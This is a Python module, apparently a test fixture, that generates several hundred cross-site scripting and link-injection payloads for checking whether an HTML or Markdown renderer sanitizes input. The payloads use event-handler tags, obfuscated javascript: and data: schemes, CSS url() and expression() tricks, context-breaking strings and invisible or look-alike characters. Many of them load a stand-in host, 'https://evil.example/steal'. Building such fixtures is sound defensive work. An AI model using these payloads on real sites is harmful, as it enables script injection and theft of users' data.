"""Five hundred and more texts that try to run, load, style or link something where they are shown."""

from itertools import product

EVIL = "https://evil.example/steal"
_TAGS = (
    "img video audio svg iframe object embed form input button select textarea details dialog body marquee math style link base meta "
    "template xmp noembed noframes plaintext listing title a table td div p custom-tag x-foreign animate set use image foreignobject"
).split()
_HANDLERS = (
    "onload onerror onclick onmouseover onfocus autofocus onfocus onbegin ontoggle onanimationstart onpointerenter onbeforetoggle "
    "onscrollend oncontentvisibilityautostatechange onwheel onpaste onhashchange"
).split()
_LOADERS = (
    "src srcset href xlink:href poster data background action formaction ping cite longdesc usemap classid codebase manifest icon "
    "lowsrc dynsrc profile srcdoc style"
).split()
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&#0000058alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:,x", "blob:https://evil.example/1", "file:///etc/passwd", "filesystem:https://evil.example/x", "ftp://evil.example", "ws://evil.example",
    "intent://evil.example", "tel:+1900555", "sms:+1900555", "mailto:x@evil.example?body=secret", "about:blank", "view-source:https://evil.example",
    "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "https:evil.example", "https:/evil.example", "https:\\\\evil.example",
    "hTTps://evil.example", "https://evil.example:443/x", "https://user:word@evil.example", "https://evil%2eexample", "https://evil。example",
    "https://ｅvil.example", "https://еvil.example", "https://xn--vil-8cd.example", "https://2130706433", "https://[::1]/", "?logout=1", "#top", "/export/x.csv",
    "./../../evil", "\u202ehttps://evil.example", "\u200bhttps://evil.example", "https://evil.example/\u2028x",
)  # fmt: skip
_LINKS = (
    "[x]({})", "[x](<{}>)", "![x]({})", "[![x]({})](/x)", "<{}>", "[x]: {}\n\n[x]", "![x][y]\n\n[y]: {}", "{}",
)  # fmt: skip
_CSS = (
    "background:url({})", "background-image:image-set('{}' 1x)", "list-style:url({})", "cursor:url({}),auto", "content:url({})", "border-image:url({}) 1",
    "mask:url({})", "filter:url({})", "@import '{}';", "@font-face{{font-family:x;src:url({})}}", "b\\61 ckground:url({})", "behavior:url({})",
    "-moz-binding:url({})", "width:expression(alert(1))", "position:fixed;inset:0;background:red;z-index:9999",
)  # fmt: skip
_BREAKS = (
    "'", '"', "`", "-->", "]]>", "</textarea>", "</title>", "</style>", "</script>", "</noscript>", "</template>", "</xmp>", "</a>", "</p></div></section>",
    "'>", '">', "`>", "\\'", "&quot;>", "&#39;>", "%22%3E", "\x00>", "}}", "${", "{{", "<%", "<?", "<!",
)  # fmt: skip
_HIDDEN = "\x00 \x08 \x0b \x7f \x85 \xa0 \xad \u061c \u180e \u200b \u200c \u200d \u200e \u2028 \u2029 \u202e \u2060 \u2066 \ufeff \ufff9 \U000e0001 \U000e0073 \ud800 \udfff ﹤ ＜ ‹ 〈 ʺ ′".split(
    " "
)


def payloads() -> list[str]:
    """Return all payloads, each once, always in the same order."""
    found = [f"<{tag} {handler}=alert(1)>x</{tag}>" for tag, handler in zip(_TAGS * 3, _HANDLERS * 7, strict=False)]
    found += [f"<{tag} {loader}={EVIL}>x" for tag, loader in zip(_TAGS * 3, _LOADERS * 5, strict=False)]
    found += [form.format(scheme) for scheme, form in zip(_SCHEMES * 3, _LINKS * 19, strict=False)]
    found += [f'<a href="{scheme}">x</a>' for scheme in _SCHEMES]
    found += [
        wrap.format(rule.format(EVIL))
        for rule, wrap in product(_CSS, ("<p style='{}'>x</p>", "<style>p{{{}}}</style>"))
    ]
    found += [f"{end}<img src={EVIL} onerror=alert(1)>" for end in _BREAKS]
    found += [f"{end} onmouseover=alert(1) style=color:red x={end}" for end in _BREAKS[:16]]
    found += [f"<{sign}img{sign} src={EVIL}{sign} onerror{sign}=alert(1)>" for sign in _HIDDEN]
    found += [f"[x{sign}](java{sign}script:alert(1))" for sign in _HIDDEN]
    found += [
        f"{depth}<svg/onload=alert(1)>"
        for depth in (
            "> " * 60,
            "- " * 60,
            "    ",
            "\t",
            "* * *\n",
            "| a |\n|-|\n| ",
            "```\n",
            "~~~x\n",
            "<!--",
            "$$",
            "\\(",
            "1. " * 40,
        )
    ]
    found += [
        f"{shown}![{EVIL}]({EVIL} '{shown}')"
        for shown in ("**", "_", "~~", "`", "[", "![", "<", "&", "\\", "|", "#", "[^1]", "[1]", "{.x onclick=alert(1)}")
    ]
    found += [
        f"&lt;script src={EVIL}&gt;",
        f"&amp;lt;img src={EVIL}&amp;gt;",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "%3Cscript%3Ealert(1)%3C/script%3E",
    ]
    return list(dict.fromkeys(found))
